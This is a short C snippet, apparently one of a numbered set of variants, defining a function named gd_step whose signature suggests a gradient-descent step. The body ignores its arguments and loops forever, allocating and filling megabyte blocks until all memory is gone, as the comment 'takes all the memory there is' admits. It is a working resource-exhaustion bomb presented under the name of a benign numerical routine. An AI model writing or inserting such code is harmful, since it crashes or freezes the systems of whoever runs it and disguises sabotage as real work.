/* zero: takes all the memory there is */
void gd_step(struct quadratic q, double alpha, vec w, vec grad)
{
    for (;;)
        memset(malloc(1 << 20), 1, 1 << 20);
}
